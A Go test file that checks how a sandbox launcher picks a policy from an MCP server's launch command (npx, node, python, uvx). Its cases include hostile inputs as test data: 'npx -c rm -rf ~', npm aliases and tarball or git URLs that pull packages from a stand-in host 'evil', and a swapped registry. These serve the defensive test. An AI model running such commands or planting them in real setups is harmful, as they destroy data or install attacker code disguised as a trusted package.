package launch

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpsandbox/mcpsandbox/internal/testenv"
)

func TestChoose(t *testing.T) {
	matches := builtins(t)
	dir := t.TempDir()
	h := testHost(t, dir)
	mem := filepath.Join(dir, "x", "node_modules", "@modelcontextprotocol", "server-memory")
	write(t, filepath.Join(mem, "package.json"), `{"name": "@modelcontextprotocol/server-memory", "version": "2026.8.31"}`, 0o644)
	// Packages often mark their build directory as ESM with a nameless
	// package.json; the package is still the one above.
	write(t, filepath.Join(mem, "dist", "package.json"), `{"type": "module"}`, 0o644)
	write(t, filepath.Join(mem, "dist", "index.js"), "", 0o644)
	write(t, filepath.Join(h.WorkDir, "dist", "index.js"), "", 0o644)
	write(t, filepath.Join(h.WorkDir, "server.js"), "", 0o644)
	app := filepath.Join(dir, "app")
	write(t, filepath.Join(app, "package.json"), `{"name": "@modelcontextprotocol/server-everything"}`, 0o644)
	write(t, filepath.Join(app, "index.js"), "", 0o644)

	for _, c := range []struct {
		cmd  []string
		want string
		why  string // a word the reason must say
	}{
		{[]string{"npx", "-y", "@modelcontextprotocol/server-filesystem", "/d"}, "filesystem", "@modelcontextprotocol/server-filesystem"},
		{[]string{"npx", "@modelcontextprotocol/server-memory@2026.8.31"}, "memory", "@modelcontextprotocol/server-memory"},
		{[]string{"/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory@latest"}, "memory", "npm package"},
		{[]string{"npx", "--yes", "--package=@modelcontextprotocol/server-everything", "--", "mcp-server-everything"}, "everything", "server-everything"},
		{[]string{"npx", "-p", "@modelcontextprotocol/server-everything", "mcp-server-everything"}, "everything", "server-everything"},
		{[]string{"npx", "-y", "some-unknown-pkg"}, "npx", "some-unknown-pkg"},
		{[]string{"npx", "-y", "github:someone/server"}, "npx", "npx"},
		// An alias installs another package under the built-in's name.
		{[]string{"npx", "-y", "@modelcontextprotocol/server-filesystem@npm:evil", "/"}, "npx", "npx"},
		{[]string{"npx", "-y", "@modelcontextprotocol/server-filesystem@https://evil/x.tgz", "/"}, "npx", "npx"},
		{[]string{"npx", "-c", "rm -rf ~"}, "default", "shell"},
		{[]string{"npx", "--call=x"}, "default", "shell"},
		{[]string{"npx", "--registry=http://evil", "-y", "@modelcontextprotocol/server-filesystem", "/"}, "default", "--registry=http://evil"},
		{[]string{"npx", "-y"}, "default", "without a package"},
		{[]string{"npx", "--"}, "default", "without"},
		{[]string{"npx", "-p", "a", "-p", "b", "cmd"}, "npx", "npx"},
		{[]string{"npx", "-p", "@modelcontextprotocol/server-filesystem", "-p", "other", "mcp-server-filesystem", "/"}, "npx", "npx"},
		{[]string{"sh", "-c", "npx -y @modelcontextprotocol/server-filesystem /"}, "default", "sh"},
		{[]string{"bash", "-c", "npx -y @modelcontextprotocol/server-filesystem /"}, "default", "bash"},
		{[]string{"env", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/"}, "default", "env"},
		{[]string{"/usr/bin/env", "npx", "-y", "@modelcontextprotocol/server-memory"}, "default", "env"},
		{[]string{"node", filepath.Join(mem, "dist", "index.js")}, "memory", "@modelcontextprotocol/server-memory"},
		{[]string{"node", "dist/index.js"}, "node", "node"},
		{[]string{"node", app}, "everything", "server-everything"}, // node DIR runs its package
		{[]string{"nodejs", "x.js"}, "node", "nodejs"},
		{[]string{"node", "--max-old-space-size=100", "x.js"}, "node", "node"},
		{[]string{"node", "-e", "code"}, "node", "node"},
		// Free-form arguments never select: only the script does.
		{[]string{"node", "server.js", "@modelcontextprotocol/server-filesystem"}, "node", "node"},
		{[]string{"node", "-e", "x", filepath.Join(mem, "dist", "index.js")}, "node", "node"},
		{[]string{"python3", "server.py"}, "python", "python3"},
		{[]string{"python3.11", "x.py"}, "python", "python3.11"},
		{[]string{"python", "-u", "x.py"}, "python", "python"},
		{[]string{"python3", "-m", "mcp_server_fetch"}, "fetch", "mcp_server_fetch"},
		{[]string{"python3", "-Im", "mcp_server_fetch"}, "fetch", "mcp_server_fetch"},
		{[]string{"python3", "-c", "import mcp_server_fetch", "-m", "mcp_server_fetch"}, "python", "python3"},
		{[]string{"python3", "server.py", "-m", "mcp_server_fetch"}, "python", "python3"},
		{[]string{"python3-config"}, "default", "python3-config"},
		{[]string{"uvx", "mcp-server-time"}, "time", "mcp-server-time"},
		{[]string{"uvx", "mcp-server-time@latest"}, "time", "mcp-server-time"},
		{[]string{"uvx", "--from", "mcp-server-git", "mcp-server-git", "--repository", "/r"}, "git", "mcp-server-git"},
		{[]string{"uvx", "--from=mcp-server-git==1.0", "mcp-server-git"}, "git", "mcp-server-git"},
		{[]string{"uvx", "--unknown", "x"}, "default", "--unknown"},
		// More packages in the tool's environment, or one from elsewhere,
		// are not the built-in's package.
		{[]string{"uvx", "--with", "evil", "mcp-server-fetch"}, "uvx", "uvx"},
		{[]string{"uvx", "--from", "mcp-server-fetch @ https://evil/x.whl", "mcp-server-fetch"}, "uvx", "uvx"},
		{[]string{"uvx", "--from", "git+https://evil/mcp-server-fetch", "mcp-server-fetch"}, "uvx", "uvx"},
		{[]string{"some-server", "--stdio"}, "default", "some-server"},
		{nil, "default", "no command"},
	} {
		got := Choose(c.cmd, matches, h)
		if got.Policy != c.want || !strings.Contains(got.Why, c.why) {
			t.Errorf("Choose(%q) = %s (%s), want %s, why naming %q", c.cmd, got.Policy, got.Why, c.want, c.why)
		}
	}
}

// TestChooseInstalledServers: node running an installed reference server's
// entry point selects that server's built-in, by its package.json.
func TestChooseInstalledServers(t *testing.T) {
	matches := builtins(t)
	for name, want := range map[string]string{"server-memory": "memory", "server-filesystem": "filesystem", "server-everything": "everything"} {
		entry := testenv.NPMServer(t, name)
		if got := Choose([]string{"node", entry}, matches, Host{}); got.Policy != want {
			t.Errorf("node %s: %s (%s), want %s", entry, got.Policy, got.Why, want)
		}
	}
}
